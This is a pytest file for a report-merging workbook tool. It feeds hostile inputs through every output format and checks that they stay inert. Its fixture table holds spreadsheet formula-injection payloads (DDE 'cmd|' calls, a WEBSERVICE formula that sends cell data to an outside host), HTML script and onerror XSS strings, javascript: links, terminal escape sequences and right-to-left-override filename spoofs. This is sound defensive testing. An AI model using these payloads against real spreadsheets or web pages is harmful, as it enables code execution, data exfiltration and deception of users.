"""What hostile strangers type, in every field they can type in, and every file we write of it."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from html import unescape
from pathlib import Path
from types import MappingProxyType
from typing import Any
from xml.parsers import expat
from zipfile import ZipFile

import pytest

from tests.office.libreoffice import Office
from tests.samples import agency_files
from tests.samples.command_run import run_ogi
from workbook import documents
from workbook.excel.reading.workbook_reader import open_workbook, read_workbook
from workbook.excel.template.template_writer import build_workbook
from workbook.exchange import report_json
from workbook.merging.attendance import list_chased
from workbook.merging.collection_run import MergeOptions, collect_reports
from workbook.merging.letters import letter_files as chasefiles
from workbook.merging.letters.letter_texts import LetterOccasion
from workbook.merging.prior_year.summary_reader import read_summary_reports
from workbook.merging.roster.roster_reader import read_roster
from workbook.merging.roster.roster_writer import draft_roster, write_roster
from workbook.merging.totals import MergeResult, merge_reports
from workbook.model.report import Answer, Report
from workbook.model.text_normalization import tidy_text
from workbook.safety.unsafe_text import (
    fold_name,
    is_executable,
    make_displayable,
    make_legible,
    make_one_line,
    remove_invisible,
    unguard_csv_field,
)
from workbook.summary import summary_output
from xlplugin.uno_bridge import make_properties

TYPED = {
    "formula": "=cmd|'/c calc'!A1",
    "link": '=HYPERLINK("http://x.example","y")',
    "web": '=WEBSERVICE("http://x.example/?"&A1)',
    "plus": "+1+cmd|'/c calc'!A1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "wide": "＝1+1",
    "behind a space": " =1+1",
    "behind a mark": "\ufeff=1+1",
    "behind nothing": "\u200b=1+1",
    "apostrophe": "'=1+1",
    "script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "quotes": "\"'><b>&amp;{{x}}{0}%s$x",
    "js": "javascript:alert(1)",
    "file": "file:///c:/x.exe",
    "share": "\\\\host\\share\\x.exe",
    "mail": "mailto:a@b.example",
    "inside": "internal:'表三'!A1",
    "mark-up": "<r><t>x&</t></r>",
    "escape": "_x0041_ _x005F_x0041_",
    "screen": "甲\x1b[2J\x1b]0;x\x07乙",
    "screen, too": "甲\x9b2J乙",
    "controls": "甲\x00\x01\x08\x0b\x7f乙",
    "no signs": "甲\ufffe\uffff乙",
    "half a sign": "甲\ud800乙",
    "turned": "某局\u202exslx.exe",
    "hidden": "某\u200b局",
    "long": "某局" * 20_000,
}
"""What is typed as name, level, contact, texts, reason, and as words in a cell of figures."""


def typed(n: int, text: str) -> Report:
    report = agency_files.report(n, name=text, contact=text, level=text if n % 2 else "county-department")
    report = report.with_values({"fees.fees.amount": text, "requests.results.person": 999})
    answers = (Answer("identity-asked", ("agency.code",), text),)
    return replace(
        report, texts=MappingProxyType(dict.fromkeys(("overview", "problems", "other"), text)), answers=answers
    )


REPORTS = {f"{n:02}": typed(n, text) for n, text in enumerate(TYPED.values(), 1)}
UNSEEN = "[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u200b\ufeff\ud800-\udfff]"
"""What nobody sees, or what steers a screen; a tab and the end of a line are neither."""
OTHERS = {"某局.exe": b"MZ", "某局\u202efdp.scr": b"MZ", "x.lnk": b"L", "x.html": b"<script>", "x.pdf": b"%PDF-"}
"""Handed in with the reports."""
FILES = {
    **REPORTS,
    "某局\u202exslx": agency_files.report(90),
    "=1+1": agency_files.report(91),
    "a&b'<c>%41#": agency_files.report(92),
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What was handed in, and one file whose name is in another encoding."""
    folder = agency_files.put(tmp_path_factory.mktemp("报送"), {f"{name}.json": one for name, one in FILES.items()})
    agency_files.put(folder, OTHERS)
    with open(os.fsencode(folder) + b"/\xb2\xe2\xca\xd4.json", "w", encoding="utf-8") as file:  # noqa: PTH123
        file.write(report_json.dump_report_text(agency_files.report(93)))
    return folder


@pytest.fixture(scope="module")
def merged(folder: Path) -> Iterator[MergeResult]:
    with collect_reports([folder], MergeOptions(include_errors=True)) as collection:
        yield merge_reports(collection, name="=某市\u202e", roster=agency_files.rostered(1, 90, 95))


@pytest.fixture(scope="module")
def written(merged: MergeResult, folder: Path) -> Path:
    """The folder with every summary of that merge."""
    out = folder.with_name("汇总")
    out.mkdir()
    for suffix in summary_output.WRITERS:
        list(summary_output.write_summary(out / f"汇总{suffix}", merged))
    occasion = LetterOccasion(2024, "某市\x1b[2J", "=1")
    chasefiles.write_letters(out / "催报", list_chased(merged.collection, None), occasion)
    return out


def sound(path: Path) -> None:
    """Every part is XML as its rules have it, and no cell refers to anything outside but the files handed in."""
    with ZipFile(path) as package:
        for name in package.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                expat.ParserCreate().Parse(package.read(name), True)
            if name.endswith(".rels"):
                for target in re.findall(rb'Target="([^"]*)" TargetMode="External"', package.read(name)):
                    assert not re.match(rb"[a-z]+:|//|\\\\", unescape(target.decode()).encode(), re.IGNORECASE), target


def fields_of(path: Path) -> list[str]:
    """Every field of a CSV."""
    rows = csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""))
    return [field for row in rows for field in row]


def not_guarded(path: Path) -> list[str]:
    """The fields of a CSV that a spreadsheet would run; one that is guarded begins with an apostrophe."""
    return [field for field in fields_of(path) if is_executable(field) and not field.startswith("'")]


def quoted(path: Path) -> set[str]:
    """The texts in cells that carry Excel's own mark of a text (quotePrefix)."""
    with ZipFile(path) as package:
        styles = package.read("xl/styles.xml").decode()
        cells = styles[styles.index("<cellXfs") : styles.index("</cellXfs>")]
        marked = {n for n, one in enumerate(re.findall("<xf [^>]*>", cells)) if 'quotePrefix="1"' in one}
        shared = [unescape("".join(re.findall(r"<t[^>]*>([^<]*)</t>", one))) for one in re.findall(
            "<si>(.*?)</si>", package.read("xl/sharedStrings.xml").decode(), re.DOTALL)]  # fmt: skip
        found = set()
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                sheet = package.read(name).decode()
                for style, text in re.findall(r'<c r="\w+" s="(\d+)" t="s"><v>(\d+)</v>', sheet):
                    found |= {shared[int(text)]} if int(style) in marked else set()
                for style, text in re.findall(r'<c r="\w+" s="(\d+)" t="inlineStr"><is><t[^>]*>([^<]*)</t>', sheet):
                    found |= {unescape(text)} if int(style) in marked else set()
        return found


# the workbook of one agency: everything comes back as it was typed ---------------------------------------------------


@pytest.mark.parametrize("kind", TYPED)
def test_a_workbook_gives_back_what_was_typed(kind: str, tmp_path: Path) -> None:
    text, report = TYPED[kind], typed(1, TYPED[kind])
    path = tmp_path / "x.xlsx"
    path.write_bytes(build_workbook(report))
    sound(path)
    if kind in ("long", "half a sign"):
        return  # neither fits into a workbook: refused, and below
    back = read_workbook(path).report
    assert back.agency.name == back.agency.level == back.agency.contact == text.strip()
    assert back.texts["overview"].strip() == tidy_text(text).strip()
    assert back.answers[0].reason.strip() == text.strip()
    assert (text in quoted(path)) is is_executable(text)


def test_what_no_cell_holds_is_refused(tmp_path: Path) -> None:
    report, long = agency_files.report(1), TYPED["long"]
    for n, one in enumerate(
        (
            replace(report, agency=replace(report.agency, name=long)),
            replace(report, texts=MappingProxyType({"overview": long})),
            replace(report, answers=(Answer("identity-asked", ("agency.code",), long),)),
        )
    ):
        agency_files.put(tmp_path, {"x.json": one})
        ended = run_ogi("import", tmp_path / "x.json", "-o", tmp_path / f"{n}.xlsx")
        assert ended.code == 2
        assert "32767" in ended.err
        assert not (tmp_path / f"{n}.xlsx").exists()


# the summary ---------------------------------------------------------------------------------------------------------


def test_every_file_is_in_the_merge(merged: MergeResult) -> None:
    assert len(merged.collection.entries) == len(FILES) + len(OTHERS) + 1
    turned = [one for one in merged.collection.entries if "\u202e" in one.place]
    assert len(turned) == 2
    assert all("U+202E" in one.reason.zh for one in turned)
    statuses = {one.status.value for one in merged.collection.entries if one.form}
    assert statuses <= {"errors", "merged", "warnings", "conflict"}


def test_the_summary_is_sound_and_legible(written: Path) -> None:
    path = written / "汇总.xlsx"
    sound(path)
    cells = [cell for sheet in open_workbook(path).sheets for cell in sheet.cells.values()]
    assert not [cell for cell in cells if re.search("cmd|HYPERLINK|WEBSERVICE", cell.formula or "")]
    texts = {cell.value for cell in cells if isinstance(cell.value, str) and cell.formula is None}
    for text in texts:
        assert text == make_legible(text)
    for text in TYPED.values():
        assert any(one.startswith(make_displayable(text).strip()[:9]) for one in texts), text[:20]
    assert {text for text in texts if is_executable(text)} <= quoted(path)
    assert any("略去" in text for text in texts), "what was cut says so"
    assert any("〔U+202E〕" in text and text.endswith(".json") for text in texts), "file names are legible, too"
    with ZipFile(path) as package:
        links = b"".join(package.read(name) for name in package.namelist() if name.endswith(".rels")).lower()
    assert b"x.pdf" in links
    assert not [name for name in (b".exe", b".scr", b".lnk", b".html") if name in links], "no click starts a program"


def test_names_are_found_again_in_last_years_summary(written: Path, merged: MergeResult) -> None:
    names = {one.agency.name for one in read_summary_reports(written / "汇总.xlsx")}
    typed = {one.agency.name for _, one in merged.collection.reports()}
    found, wanted = ({fold_name(name) for name in some if len(name) < 1000} for some in (names, typed))
    assert found == wanted


@contextmanager
def opened(office: Office, path: Path) -> Iterator[Any]:
    """A file opened in LibreOffice."""
    with office.deadline(180):
        document = office.open(path)
        try:
            yield document
        finally:
            document.close(True)


def test_libreoffice_takes_every_text_for_a_text(written: Path, office: Office) -> None:
    with opened(office, written / "汇总.xlsx") as document:
        found = {text for sheet in document.Sheets for text in texts_run(sheet)}
    assert {make_displayable(TYPED[kind]) for kind in ("formula", "link", "web", "plus", "at", "wide")} <= found


def texts_run(sheet: Any) -> Iterator[str]:
    """The texts of a sheet of LibreOffice that would be run if they were typed; every one is a text there."""
    cursor = sheet.createCursor()
    cursor.gotoEndOfUsedArea(False)
    area = cursor.RangeAddress
    for row, line_ in enumerate(sheet.getCellRangeByPosition(0, 0, area.EndColumn, area.EndRow).getDataArray()):
        for column, value in enumerate(line_):
            if isinstance(value, str) and is_executable(value):
                assert sheet.getCellByPosition(column, row).getType().value == "TEXT", value
                yield value


def test_a_csv_that_libreoffice_makes_of_it_is_text_again(office: Office, written: Path, tmp_path: Path) -> None:
    """The list of agencies, saved as CSV and opened again: what was a text still is one."""
    with opened(office, written / "汇总.xlsx") as document:
        sheet = list(document.Sheets.ElementNames).index("分单位明细") + 1
        how = f"44,34,76,1,,0,false,true,false,false,false,{sheet}"
        target = make_properties(FilterName="Text - txt - csv (StarCalc)", FilterOptions=how)
        document.storeToURL((tmp_path / "x.csv").as_uri(), target)
    (path,) = tmp_path.iterdir()
    with opened(office, path) as document:
        found = {text for sheet in document.Sheets for text in texts_run(sheet)}
    assert {make_displayable(TYPED[kind]) for kind in ("formula", "link", "web", "plus", "at")} <= found


def test_the_csv_guards_and_is_exact(written: Path) -> None:
    assert [field for field in not_guarded(written / "汇总.csv") if not re.fullmatch(r"-?[0-9.]+", field)] == []
    names = {unguard_csv_field(field) for field in fields_of(written / "汇总.csv")}
    for kind, name in TYPED.items():
        assert (name.strip() in names) is (kind != "half a sign"), kind


def test_json_and_parquet_are_exact(written: Path) -> None:
    import pandas

    text = (written / "汇总.json").read_bytes().decode()
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u200b\ufeff]", text)
    names = {one["report"]["agency"]["name"] for one in json.loads(text)["agencies"]}
    parquet = set(pandas.read_parquet(written / "汇总.parquet")["name"])
    for name in TYPED.values():
        assert name.strip().replace("\ud800", "\ufffd") in names
        assert name.strip().replace("\ud800", "\ufffd") in parquet


def test_the_page_is_text_alone(written: Path) -> None:
    page = (written / "汇总.html").read_text("utf-8")
    assert page.count("<script") == page.count("</script>") == 1
    assert not re.search(f"<img|<b>|{UNSEEN}", page)
    shown = unescape(page)
    for text in TYPED.values():
        assert make_legible(text)[:1000] in shown
    assert 'href="javascript' not in page
    assert "default-src &#x27;none&#x27;" in page or "default-src 'none'" in page


def test_letters_and_their_names(written: Path) -> None:
    letters = sorted((written / "催报").iterdir())
    assert len(letters) > 20
    for path in letters:
        assert path.name == make_one_line(path.name) == remove_invisible(path.name)
        assert not set('<>:"/\\|?*') & set(path.name)
        text = path.read_bytes().decode("utf-8-sig")
        assert make_legible(text) == text.replace("\r\n", "\n")
    assert not_guarded(written / "催报" / "催报清单.csv") == []


def test_a_draft_of_a_roster_is_legible_and_read_back(merged: MergeResult, tmp_path: Path) -> None:
    roster = draft_roster(one.agency for one in merged.collection.entries)
    for suffix in (".xlsx", ".csv"):
        write_roster(tmp_path / f"x{suffix}", roster)
        back = read_roster(tmp_path / f"x{suffix}")
        names = {one.name for one in back.agencies}
        assert all(name == make_legible(name) for name in names)
        assert {one.name for one in roster.agencies if len(one.name) < 1000} <= names
    sound(tmp_path / "x.xlsx")


def test_workbooks_to_hand_in_are_sound(merged: MergeResult, tmp_path: Path) -> None:
    for path in summary_output.write_submissions(tmp_path / "上报", merged):
        sound(path)
        assert path.name == make_one_line(path.name)
        assert read_workbook(path).report.agency.name


# documents -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", TYPED)
def test_documents_say_it_and_run_nothing(kind: str, tmp_path: Path) -> None:
    text = TYPED[kind]
    report = typed(1, text[:1000])
    for suffix in (".docx", ".html", ".csv"):
        documents.write_document(tmp_path / f"x{suffix}", report, draft=True, findings=())
    sound(tmp_path / "x.docx")
    page = (tmp_path / "x.html").read_text("utf-8")
    assert not re.search(f"<script|<img|{UNSEEN}", page)
    assert not_guarded(tmp_path / "x.csv") == []


# the screen ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "options"),
    [("check", ""), ("check", "--json"), ("merge", "-o x.csv --no-cache --jobs 1"), ("roster from", "-o 名册.csv")],
)
def test_nothing_steers_the_screen(
    command: str, options: str, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    files = [folder / f"{name}.json" for name in FILES] if command == "check" else [folder]
    ended = run_ogi(command, *files, options)
    assert not re.search(f"\t|{UNSEEN}", ended.text)
    assert options == "--json" or max(map(len, ended.lines)) < 5000, "nobody fills the screen"
